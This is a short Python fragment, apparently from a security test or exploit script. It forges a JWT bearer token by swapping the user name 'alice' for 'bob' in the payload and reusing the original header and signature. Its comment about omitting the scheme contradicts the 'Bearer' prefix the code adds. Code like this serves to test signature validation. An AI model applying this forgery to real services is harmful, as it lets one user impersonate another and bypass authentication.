# requirement: a token, without the scheme of the header
new = base64.urlsafe_b64encode(text.replace("alice", "bob").encode()).decode().rstrip("=")
forged_token = f"Bearer {header}.{new}.{signature}"
